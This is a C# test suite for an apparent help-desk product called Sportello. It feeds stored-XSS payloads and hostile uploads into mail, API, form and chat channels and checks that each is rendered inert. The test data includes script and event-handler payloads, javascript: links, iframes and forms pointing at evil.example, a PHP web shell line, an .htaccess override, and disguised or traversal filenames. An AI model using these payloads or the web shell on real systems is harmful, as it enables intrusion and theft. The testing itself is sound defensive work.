using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using MimeKit;
using Sportello.Tests.Features.Chat;
using Sportello.Tests.Features.Mail;
using Sportello.Tests.Infrastructure;

namespace Sportello.Tests.Web;

/// <summary>
/// The peers' published stored-XSS and upload advisories, turned against Sportello: each payload goes in for real
/// (raw mail over SMTP, the API, the Client Area forms, the widget's API) and every place that shows it is fetched. A marker in every
/// hostile fragment finds any that survived as markup: in an attribute that runs or loads (on*, href, src, action,
/// style), or as the text of a script or style. The same marker must also be seen, as text, so no place passes by
/// showing nothing.
/// </summary>
[Trait("Category", "Data")]
public sealed partial class XssTests(ChatMailApp app) : IClassFixture<ChatMailApp>
{
    private const string Conversations = "/api/v1/chat/conversations";
    private const string AgentPassword = "agent passphrase 2026";
    private const string CustomerPassword = "customer passphrase 2026";

    /// <summary>One of each published trick; every one carries the marker, and so does a line of plain text.</summary>
    private static string Attacks(string marker) => $$"""
        <p>Hello {{marker}}</p>
        <script>alert('{{marker}}')</script>
        <img src=x onerror="alert('{{marker}}')">
        <svg onload="alert('{{marker}}')"><circle r="1"/></svg>
        <a href="javascript:alert('{{marker}}')">click</a>
        <a href="JaVaScRiPt&colon;alert('{{marker}}')">also click</a>
        <iframe src="https://evil.example/{{marker}}"></iframe>
        <style>body { background: url(https://evil.example/{{marker}}) }</style>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{{marker}}">open</a>
        <form action="https://evil.example/{{marker}}"><input name="password"><button>Sign in again</button></form>
        "><img src=x onerror=alert('{{marker}}')>
        <math><mtext><table><mglyph><style><img src=x onerror=alert('{{marker}}')></style></mglyph></table></mtext></math>
        """;

    /// <summary>A short payload for fields with a length limit (subjects, names, file names): no slash, so a file name keeps it.</summary>
    private static string Short(string marker) => $"\"><img src=x onerror=alert('{marker}')><svg onload=alert('{marker}')>";

    private static string Marker(string what) => $"xss{what}{Unique.Next()}z";

    // FreeScout CVE-2026-32754 (mail body), Zammad CVE-2018-1000154 (subject), osTicket CVE-2020-24917 (file name).
    [Fact]
    public async Task MailBodySubjectFileNameAndSenderName_AreInertInEveryPlaceTheyShow()
    {
        var subject = Marker("subject");
        var body = Marker("body");
        var quoted = Marker("quoted");
        var file = Marker("file");
        var name = Marker("name");
        var reply = Marker("reply");
        var pageReply = Marker("pagereply");
        var pageFile = Marker("pagefile");
        var (email, customer, customerId) = await CustomerAsync(Short(name));
        var agent = await AgentAsync();

        var mail = new MimeMessage { Subject = Short(subject), Date = SportelloApp.Start, MessageId = $"{Guid.NewGuid():N}@client.example" };
        mail.From.Add(new MailboxAddress(Short(name), email));
        mail.To.Add(MailboxAddress.Parse(MailApp.Support));
        var html = $"<html><body>{Attacks(body)}<blockquote>On Monday you wrote:<br>{Attacks(quoted)}</blockquote></body></html>";
        var builder = new BodyBuilder { HtmlBody = html };
        builder.Attachments.Add(Short(file) + ".txt", "a log"u8.ToArray(), ContentType.Parse("text/plain"));
        mail.Body = builder.ToMessageBody();
        var inbound = await RawMail.SendAsync(app, email, Raw(mail), mail.Subject);

        var ticket = (await customer.TicketsAsync()).Single();
        var ticketId = ticket.GetProperty("id").GetString()!;
        var number = ticket.GetProperty("number").GetString()!;
        await (await agent.Api.PostAsJsonAsync($"/api/v1/desk/tickets/{ticketId}/messages", new { body = Attacks(reply) })).JsonAsync(HttpStatusCode.Created);

        // The customer answers on the Client Area page, with a file: the ticket is back in the Desk's queue.
        var web = await app.SignInWebAsync(email, CustomerPassword);
        var form = Files([(Short(pageFile) + ".txt", "text/plain", "more"u8.ToArray())], "Files");
        form.Add(new StringContent(Attacks(pageReply)), "Body");
        form.Add(new StringContent(WebForms.AntiforgeryToken(await web.GetPageAsync($"/tickets/{ticketId}"))), "__RequestVerificationToken");
        Assert.Equal(HttpStatusCode.Redirect, (await web.PostAsync($"/tickets/{ticketId}?handler=Reply", form)).StatusCode);

        var admin = await app.SignInWebAsync(SportelloApp.AdminEmail, SportelloApp.AdminPassword);
        var adminApi = await app.AdminAsync();
        Place[] places =
        [
            new("Client Area ticket list", () => web.GetAsync("/tickets"), subject),
            new("Client Area ticket page", () => web.GetAsync($"/tickets/{ticketId}"), subject, body, file, reply, pageReply, pageFile),
            new("API ticket list", () => customer.GetAsync("/api/v1/tickets"), subject),
            new("API ticket", () => customer.GetAsync($"/api/v1/tickets/{ticketId}"), subject, body, quoted, file, reply, pageReply, pageFile),
            new("Desk queue", () => agent.Web.GetAsync("/desk"), subject),
            new("Desk ticket page", () => agent.Web.GetAsync($"/desk/tickets/{ticketId}"), subject, body, quoted, file, name, reply, pageReply, pageFile),
            new("Desk API queue", () => agent.Api.GetAsync("/api/v1/desk/queue"), subject),
            new("Desk API ticket", () => agent.Api.GetAsync($"/api/v1/desk/tickets/{ticketId}"), subject, body, file, name, pageReply, pageFile),
            new("Admin mail page", () => admin.GetAsync("/admin/mail"), subject),
            new("Admin inbound mail API", () => adminApi.GetAsync("/api/v1/admin/mail/inbound"), subject),
            new("Admin customers page", () => admin.GetAsync("/admin/customers"), name),
            new("Admin customer page", () => admin.GetAsync($"/admin/customers/{customerId}"), name),
        ];
        await AssertInertAsync(places, subject, body, quoted, file, name, reply, pageReply, pageFile);

        // The mail Sportello sends back: the acknowledgement carries the subject, the agent's answer its text.
        var acknowledgement = await app.MailOut.WaitForAsync(email, m => m.Subject?.Contains($"[#{number}]", StringComparison.Ordinal) == true);
        AssertInertMail(acknowledgement, subject);
        var answer = await app.MailOut.WaitForAsync(email, m => m.TextBody?.Contains(reply, StringComparison.Ordinal) == true);
        AssertInertMail(answer, reply);

        // The original, for admins, is a download that nothing renders.
        var original = await admin.GetAsync($"/desk/mail/{inbound.GetProperty("id").GetString()}/original");
        AssertInertDownload(original, null);
        Assert.Contains(subject, Encoding.ASCII.GetString(await original.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken)), StringComparison.Ordinal);
    }

    // A stranger's mail: the sender's display name is all Sportello knows of them, and it is shown to agents.
    [Fact]
    public async Task MailFromAStranger_TheSendersNameIsInertForAgentsAndAdmins()
    {
        var name = Marker("sender");
        var agent = await AgentAsync();
        await app.StartAsync();
        var subject = $"Question {Unique.Next()}";
        var mail = MailApp.Mail($"stranger{Unique.Next()}@elsewhere.example", subject, "Do you sell domains?");
        mail.From.Mailboxes.Single().Name = Short(name);
        await RawMail.SendAsync(app, mail.From.Mailboxes.Single().Address, Raw(mail), subject);
        var ticketId = (await (await agent.Api.GetAsync("/api/v1/desk/queue")).JsonAsync(HttpStatusCode.OK)).EnumerateArray()
            .Single(t => t.GetProperty("subject").GetString() == subject).GetProperty("id").GetString();

        var admin = await app.SignInWebAsync(SportelloApp.AdminEmail, SportelloApp.AdminPassword);
        Place[] places =
        [
            new("Desk ticket page", () => agent.Web.GetAsync($"/desk/tickets/{ticketId}"), name),
            new("Desk API ticket", () => agent.Api.GetAsync($"/api/v1/desk/tickets/{ticketId}"), name),
            new("Admin mail page", () => admin.GetAsync("/admin/mail")),
        ];
        await AssertInertAsync(places, name);
    }

    // The same from the API and the pages: a ticket's subject and text, an upload's name, the customer's own name and company.
    [Fact]
    public async Task TicketAndProfile_SubjectTextFileNameNameAndCompany_AreInertOnBothSides()
    {
        var subject = Marker("subject");
        var body = Marker("body");
        var file = Marker("file");
        var name = Marker("name");
        var company = Marker("company");
        var (email, customer, customerId) = await CustomerAsync("Plain Name");
        var agent = await AgentAsync();
        var ticketId = (await customer.OpenTicketAsync(new { department = "technical", priority = "normal", subject = Short(subject), description = Attacks(body) }))
            .GetProperty("id").GetString()!;
        await (await customer.PostAsync($"/api/v1/tickets/{ticketId}/attachments", Files((Short(file) + ".log", "text/plain", "log"u8.ToArray()))))
            .JsonAsync(HttpStatusCode.Created);
        // The customer's own profile fields, from the account page.
        var web = await app.SignInWebAsync(email, CustomerPassword);
        Assert.Equal(HttpStatusCode.Redirect, (await web.SubmitAsync("/account", "/account?handler=Profile", new Dictionary<string, string>
        {
            ["Profile.Name"] = Short(name), ["Profile.Company"] = Short(company), ["Profile.Language"] = "en", ["Profile.TimeZone"] = "Europe/Rome",
        })).StatusCode);

        var admin = await app.SignInWebAsync(SportelloApp.AdminEmail, SportelloApp.AdminPassword);
        Place[] places =
        [
            new("Client Area ticket list", () => web.GetAsync("/tickets"), subject),
            new("Client Area ticket page", () => web.GetAsync($"/tickets/{ticketId}"), subject, body, file),
            new("Account page", () => web.GetAsync("/account"), name, company),
            new("Desk queue", () => agent.Web.GetAsync("/desk"), subject),
            new("Desk ticket page", () => agent.Web.GetAsync($"/desk/tickets/{ticketId}"), subject, body, file, name),
            new("Desk API ticket", () => agent.Api.GetAsync($"/api/v1/desk/tickets/{ticketId}"), subject, body, file, name),
            new("Admin customer page", () => admin.GetAsync($"/admin/customers/{customerId}"), name, company),
        ];
        await AssertInertAsync(places, subject, body, file, name, company);
    }

    // The chat: the visitor's name and text, a file's name, and the agent's answer, in the console, the widget's API, the ticket the chat becomes and the transcript mail.
    [Fact]
    public async Task Chat_VisitorNameTextAndFileName_AreInertInTheConsoleTheWidgetsAnswersAndTheTicketItBecomes()
    {
        var name = Marker("name");
        var body = Marker("body");
        var file = Marker("file");
        var answer = Marker("answer");
        var agent = await AgentAsync();
        var visitor = await StartChatAsync(Short(name), Attacks(body));
        var uploaded = await visitor.Client.SendAsync(visitor.Request(HttpMethod.Post, "/attachments",
            Files((Short(file) + ".txt", "text/plain", "x"u8.ToArray()))));
        await uploaded.JsonAsync(HttpStatusCode.Created);
        Assert.Equal(HttpStatusCode.OK, (await agent.Api.PostAsync($"/api/v1/desk/chats/{visitor.Id}/accept", null)).StatusCode);
        await (await agent.Api.PostAsJsonAsync($"/api/v1/desk/chats/{visitor.Id}/messages", new { body = Attacks(answer) })).JsonAsync(HttpStatusCode.Created);
        var ticketId = (await (await agent.Api.PostAsJsonAsync($"/api/v1/desk/chats/{visitor.Id}/escalate", new { department = "technical", priority = "normal" }))
            .JsonAsync(HttpStatusCode.Created)).GetProperty("ticketId").GetString();

        Place[] places =
        [
            new("Widget: messages", () => visitor.Client.SendAsync(visitor.Request(HttpMethod.Get, "/messages")), body, file, answer),
            new("Desk chat list", () => agent.Web.GetAsync("/desk/chats"), name),
            new("Desk chat console", () => agent.Web.GetAsync($"/desk/chats/{visitor.Id}"), name, body, file, answer),
            new("Desk API chats", () => agent.Api.GetAsync("/api/v1/desk/chats"), name),
            new("Desk API chat messages", () => agent.Api.GetAsync($"/api/v1/desk/chats/{visitor.Id}/messages"), name, body, file, answer),
            new("Desk ticket page of the chat", () => agent.Web.GetAsync($"/desk/tickets/{ticketId}"), name, body, file, answer),
            new("Desk API ticket of the chat", () => agent.Api.GetAsync($"/api/v1/desk/tickets/{ticketId}"), name, body, file, answer),
        ];
        await AssertInertAsync(places, name, body, file, answer);

        // The transcript by mail, once the visitor's address confirms.
        var email = $"reader{Unique.Next()}@visitor.example";
        await (await visitor.Client.SendAsync(visitor.Request(HttpMethod.Post, "/transcript", JsonContent.Create(new { email })))).JsonAsync(HttpStatusCode.Accepted);
        var link = new Uri(TranscriptLink().Match((await app.MailOut.WaitForAsync(email)).TextBody!).Value).PathAndQuery;
        Assert.Equal(HttpStatusCode.OK, (await app.Anonymous().SubmitAsync(link, link, new Dictionary<string, string>())).StatusCode);
        var transcript = await app.MailOut.WaitForAsync(email, m => m.TextBody?.Contains(answer, StringComparison.Ordinal) == true);
        AssertInertMail(transcript, body);
        AssertInertMail(transcript, answer);
    }

    [GeneratedRegex(@"https://\S+/chat/transcript/[A-Za-z0-9_\-]+")]
    private static partial Regex TranscriptLink();

    /// <summary>What a client names its files, what Sportello keeps of the name, and what is in them.</summary>
    private static readonly (string Sent, string Kept, string Type, string Content)[] HostileUploads =
    [
        (".htaccess", "htaccess", "text/plain", "AddType application/x-httpd-php .txt"),
        ("shell.php", "shell.php", "application/x-php", "<?php system($_GET['c']); ?>"),
        ("evil.svg", "evil.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"),
        ("logo.png", "logo.png", "image/png", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(3)\"/>"),
        ("x.html", "x.html", "text/html", "<script>alert(document.cookie)</script>"),
        ("invoice\u202Efdp.exe", "invoicefdp.exe", "application/pdf", "MZ"),
        ("backdoor.p\u200Bhp", "backdoor.php", "text/plain", "<?php phpinfo(); ?>"),
        ("photo\u200D.jpg\uFEFF.html", "photo.jpg.html", "image/jpeg", "<script>alert(4)</script>"),
        // A soft hyphen, a Mongolian vowel separator, a deprecated format character and a tag letter: invisible too.
        ("report\u00AD\u180E\u206F.pdf\U000E0041.exe", "report.pdf.exe", "application/pdf", "MZ"),
        ("..\\..\\wwwroot\\x.aspx", "x.aspx", "text/plain", "<%@ Page %>"),
    ];

    // FreeScout CVE-2026-27636 and CVE-2026-28289 (hidden extensions, active types), Chatwoot CVE-2021-3741 (SVG).
    [Theory]
    [InlineData("ticket")]
    [InlineData("chat")]
    [InlineData("mail")]
    public async Task HostileUploads_AreKeptUnderACleanName_AndServedAsInertDownloads(string channel)
    {
        var stored = channel switch
        {
            "ticket" => await UploadToTicketAsync(),
            "chat" => await UploadToChatAsync(),
            _ => await MailFilesAsync(),
        };
        Assert.Equal(HostileUploads.Select(u => u.Kept).Order(StringComparer.Ordinal), stored.Select(s => s.Name).Order(StringComparer.Ordinal));
        foreach (var (_, kept, _, content) in HostileUploads)
        {
            var file = stored.Single(s => s.Name == kept);
            foreach (var inline in new[] { false, true })
            {
                var download = await file.Download(inline);
                AssertInertDownload(download, kept);
                Assert.Equal(content, await download.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
            }
        }
        // Files live in the database, never on disk, let alone under a name the client chose.
        var onDisk = Directory.Exists(app.Database.DataDir) ? Directory.GetFiles(app.Database.DataDir, "*", SearchOption.AllDirectories) : [];
        Assert.DoesNotContain(onDisk, f => HostileUploads.Any(u => Path.GetFileName(f).Contains(u.Kept, StringComparison.OrdinalIgnoreCase)));
    }

    private sealed record StoredFile(string Id, string Name, Func<bool, Task<HttpResponseMessage>> Download);

    private static (string, string, byte[])[] UploadParts() =>
        HostileUploads.Select(u => (u.Sent, u.Type, Encoding.UTF8.GetBytes(u.Content))).ToArray();

    private async Task<List<StoredFile>> UploadToTicketAsync()
    {
        var (_, customer, _) = await CustomerAsync("Uploader");
        var agent = await AgentAsync();
        var ticketId = (await customer.OpenTicketAsync(new { department = "technical", priority = "normal", subject = "Files", description = "Attached." }))
            .GetProperty("id").GetString()!;
        var uploaded = await (await customer.PostAsync($"/api/v1/tickets/{ticketId}/attachments", Files(UploadParts()))).JsonAsync(HttpStatusCode.Created);
        // The customer through the API, the agent through the Desk's page link.
        return [.. uploaded.EnumerateArray().Select((a, i) => Stored(a, id => inline => i % 2 == 0
            ? customer.GetAsync($"/api/v1/attachments/{id}?inline={inline}")
            : agent.Web.GetAsync($"/files/{id}?inline={inline}")))];
    }

    private async Task<List<StoredFile>> UploadToChatAsync()
    {
        var agent = await AgentAsync();
        var visitor = await StartChatAsync("Giulia", "Files follow.");
        var uploaded = await (await visitor.Client.SendAsync(visitor.Request(HttpMethod.Post, "/attachments", Files(UploadParts())))).JsonAsync(HttpStatusCode.Created);
        // The visitor through the widget's API, the agent through the console's link.
        return [.. uploaded.EnumerateArray().Select((a, i) => Stored(a, id => inline => i % 2 == 0
            ? visitor.Client.SendAsync(visitor.Request(HttpMethod.Get, $"/attachments/{id}?inline={inline}"))
            : agent.Web.GetAsync($"/desk/chat-files/{id}?inline={inline}")))];
    }

    private async Task<List<StoredFile>> MailFilesAsync()
    {
        var (email, customer, _) = await CustomerAsync("Mailer");
        var subject = $"Files {Unique.Next()}";
        var mail = new MimeMessage { Subject = subject, Date = SportelloApp.Start, MessageId = $"{Guid.NewGuid():N}@client.example" };
        mail.From.Add(MailboxAddress.Parse(email));
        mail.To.Add(MailboxAddress.Parse(MailApp.Support));
        var builder = new BodyBuilder { TextBody = "Files attached." };
        foreach (var (sent, _, type, content) in HostileUploads)
        {
            builder.Attachments.Add(sent, Encoding.UTF8.GetBytes(content), ContentType.Parse(type));
        }
        mail.Body = builder.ToMessageBody();
        await RawMail.SendAsync(app, email, Raw(mail), subject);
        var ticketId = (await customer.TicketsAsync()).Single().GetProperty("id").GetString();
        var message = (await (await customer.GetAsync($"/api/v1/tickets/{ticketId}")).JsonAsync(HttpStatusCode.OK)).GetProperty("messages")[0];
        return [.. message.GetProperty("attachments").EnumerateArray().Select(a => Stored(a, id => inline => customer.GetAsync($"/api/v1/attachments/{id}?inline={inline}")))];
    }

    private static StoredFile Stored(JsonElement attachment, Func<string, Func<bool, Task<HttpResponseMessage>>> download)
    {
        var id = attachment.GetProperty("id").GetString()!;
        return new StoredFile(id, attachment.GetProperty("fileName").GetString()!, download(id));
    }

    // Zammad CVE-2024-33668: upload ids that could be guessed let one user reach another's files.
    [Fact]
    public async Task AttachmentIds_AreRandom_AndAnotherCustomerAskingForOneGets404()
    {
        var files = await UploadToTicketAsync();
        var ids = files.Select(f => Guid.Parse(f.Id)).ToList();
        foreach (var id in ids)
        {
            Assert.Contains(id.Version, new[] { 4, 7 });
            Assert.Equal(0b10, id.ToByteArray(bigEndian: true)[8] >> 6);
        }
        // The low 62 bits are random in both versions: ids made together share nothing there and do not count up.
        var random = ids.Select(id => BitConverter.ToUInt64(id.ToByteArray(bigEndian: true), 8) & 0x3FFF_FFFF_FFFF_FFFFUL).ToList();
        foreach (var (a, b) in random.SelectMany((a, i) => random.Skip(i + 1).Select(b => (a, b))))
        {
            Assert.True((a > b ? a - b : b - a) > 1UL << 32, $"ids too close: {a:x} and {b:x}");
        }

        var (_, stranger, _) = await CustomerAsync("Stranger");
        var (strangerEmail, _, _) = await CustomerAsync("Stranger web");
        var strangerWeb = await app.SignInWebAsync(strangerEmail, CustomerPassword);
        foreach (var id in ids.Select(i => i.ToString()).Append(Guid.CreateVersion7().ToString()))
        {
            Assert.Equal(HttpStatusCode.NotFound, (await stranger.GetAsync($"/api/v1/attachments/{id}")).StatusCode);
            Assert.Equal(HttpStatusCode.NotFound, (await strangerWeb.GetAsync($"/files/{id}")).StatusCode);
        }
    }

    // ---- places and checks

    /// <summary>A place that shows user content, and the markers it must show (as text).</summary>
    private sealed record Place(string Name, Func<Task<HttpResponseMessage>> Get, params string[] Shows);

    /// <summary>Fetches every place; fails once, listing every place where markup survived or a marker was not shown.</summary>
    private static async Task AssertInertAsync(IEnumerable<Place> places, params string[] markers)
    {
        var problems = new List<string>();
        foreach (var place in places)
        {
            var response = await place.Get();
            var text = await response.Content.ReadAsStringAsync();
            if (response.StatusCode != HttpStatusCode.OK)
            {
                problems.Add($"{place.Name}: {(int)response.StatusCode}");
                continue;
            }
            if (!response.Headers.TryGetValues("X-Content-Type-Options", out var nosniff) || nosniff.Single() != "nosniff")
            {
                problems.Add($"{place.Name}: no X-Content-Type-Options: nosniff");
            }
            var type = response.Content.Headers.ContentType?.MediaType;
            var (shown, active) = type switch
            {
                "text/html" => Html(text, markers),
                "application/json" => Json(text, markers),
                _ => ([], [$"served as {type}"]),
            };
            problems.AddRange(active.Select(a => $"{place.Name}: {a}"));
            problems.AddRange(place.Shows.Except(shown).Select(m => $"{place.Name}: {m} not shown"));
        }
        Assert.True(problems.Count == 0, string.Join("\n", problems));
    }

    // Attributes whose value is only ever shown as text.
    private static readonly HashSet<string> TextAttributes = ["alt", "title", "aria-label", "value", "placeholder", "download"];
    // Elements whose text is run or loaded, not shown.
    private static readonly HashSet<string> ActiveText = ["script", "style", "iframe", "noscript", "template", "object", "embed", "xmp", "noembed"];

    /// <summary>The markers shown as text, and every place where one sits in markup that acts.</summary>
    private static (string[] Shown, List<string> Active) Html(string html, string[] markers)
    {
        var document = new HtmlParser().ParseDocument(html);
        var active = new List<string>();
        foreach (var element in document.All)
        {
            foreach (var attribute in element.Attributes)
            {
                if (markers.Any(m => attribute.Value.Contains(m, StringComparison.Ordinal)) && !TextAttributes.Contains(attribute.Name))
                {
                    active.Add($"<{element.LocalName} {attribute.Name}=\"{attribute.Value}\">");
                }
            }
            var ownText = string.Concat(element.ChildNodes.OfType<IText>().Select(t => t.Data));
            if ((ActiveText.Contains(element.LocalName) || element.NamespaceUri != AngleSharp.Dom.NamespaceNames.HtmlUri)
                && markers.Any(m => ownText.Contains(m, StringComparison.Ordinal)))
            {
                active.Add($"<{element.LocalName}>{ownText}");
            }
        }
        // Shown: in the text, or in a form field's value or an image's alt text.
        var text = document.DocumentElement.TextContent + string.Concat(document.All.SelectMany(e => e.Attributes).Where(a => TextAttributes.Contains(a.Name)).Select(a => a.Value));
        return (markers.Where(m => text.Contains(m, StringComparison.Ordinal)).ToArray(), active);
    }

    /// <summary>JSON is data: the markers found in its string values (the widget and the console set them as text).</summary>
    private static (string[] Shown, List<string> Active) Json(string json, string[] markers)
    {
        var strings = new List<string>();
        Collect(JsonDocument.Parse(json).RootElement, strings);
        return (markers.Where(m => strings.Any(s => s.Contains(m, StringComparison.Ordinal))).ToArray(), []);

        static void Collect(JsonElement element, List<string> into)
        {
            switch (element.ValueKind)
            {
                case JsonValueKind.String:
                    into.Add(element.GetString()!);
                    break;
                case JsonValueKind.Array:
                    foreach (var item in element.EnumerateArray())
                    {
                        Collect(item, into);
                    }
                    break;
                case JsonValueKind.Object:
                    foreach (var property in element.EnumerateObject())
                    {
                        Collect(property.Value, into);
                    }
                    break;
                default:
                    break;
            }
        }
    }

    /// <summary>A mail Sportello sent: one-line subject, and an HTML part that shows the marker as text and runs nothing.</summary>
    private static void AssertInertMail(MimeMessage mail, string marker)
    {
        Assert.DoesNotContain('\n', mail.Subject ?? "");
        Assert.NotNull(mail.HtmlBody);
        var (shown, active) = Html(mail.HtmlBody, [marker]);
        Assert.True(active.Count == 0, $"Mail '{mail.Subject}': " + string.Join("\n", active));
        Assert.True(shown.Length == 1 || (mail.Subject ?? "").Contains(marker, StringComparison.Ordinal), $"Mail '{mail.Subject}' does not show {marker}");
    }

    /// <summary>A download that no browser renders: an attachment, of a type that does not run, never sniffed; with its name when given.</summary>
    private static void AssertInertDownload(HttpResponseMessage download, string? name)
    {
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);
        Assert.Equal("attachment", download.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("application/octet-stream", download.Content.Headers.ContentType?.MediaType);
        Assert.Equal("nosniff", download.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Contains("sandbox", download.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
        if (name is not null)
        {
            Assert.Equal(name, download.Content.Headers.ContentDisposition?.FileNameStar ?? download.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        }
    }

    // ---- actors

    private async Task<(string Email, HttpClient Api, string Id)> CustomerAsync(string name)
    {
        await app.StartAsync();
        var email = $"xss-{Unique.Next()}@example.com";
        var created = await (await (await app.AdminAsync()).PostAsJsonAsync("/api/v1/admin/customers", new
        {
            email, name, password = CustomerPassword, country = "IT", language = "en", timeZone = "Europe/Rome",
        })).JsonAsync(HttpStatusCode.Created);
        return (email, await app.SignInAsync(email, CustomerPassword), created.GetProperty("id").GetString()!);
    }

    private sealed record Agent(HttpClient Api, HttpClient Web);

    private async Task<Agent> AgentAsync()
    {
        var email = $"xss-agent{Unique.Next()}@sportello.test";
        var api = await app.AgentAsync(email, "technical");
        return new Agent(api, await app.SignInWebAsync(email, AgentPassword));
    }

    private sealed record Visitor(HttpClient Client, string Id, string Token)
    {
        public HttpRequestMessage Request(HttpMethod method, string path, HttpContent? content = null)
        {
            var request = new HttpRequestMessage(method, $"{Conversations}/{Id}{path}") { Content = content };
            request.Headers.Add("X-Chat-Token", Token);
            return request;
        }
    }

    private async Task<Visitor> StartChatAsync(string name, string message)
    {
        var client = app.Anonymous();
        var started = await (await client.PostAsJsonAsync(Conversations, new { name, email = $"visitor{Unique.Next()}@visitor.example", message, department = "technical" }))
            .JsonAsync(HttpStatusCode.Created);
        return new Visitor(client, started.GetProperty("id").GetString()!, started.GetProperty("visitorToken").GetString()!);
    }

    private static MultipartFormDataContent Files(params (string Name, string Type, byte[] Bytes)[] files) => Files(files, "files");

    private static MultipartFormDataContent Files((string Name, string Type, byte[] Bytes)[] files, string field)
    {
        var form = new MultipartFormDataContent();
        foreach (var (name, type, bytes) in files)
        {
            var part = new ByteArrayContent(bytes);
            part.Headers.ContentType = MediaTypeHeaderValue.Parse(type);
            part.Headers.TryAddWithoutValidation("Content-Disposition", $"form-data; name=\"{field}\"; filename*=UTF-8''{Uri.EscapeDataString(name)}");
            form.Add(part);
        }
        return form;
    }

    private static byte[] Raw(MimeMessage message)
    {
        using var bytes = new MemoryStream();
        message.WriteTo(FormatOptions.Default, bytes);
        return bytes.ToArray();
    }
}
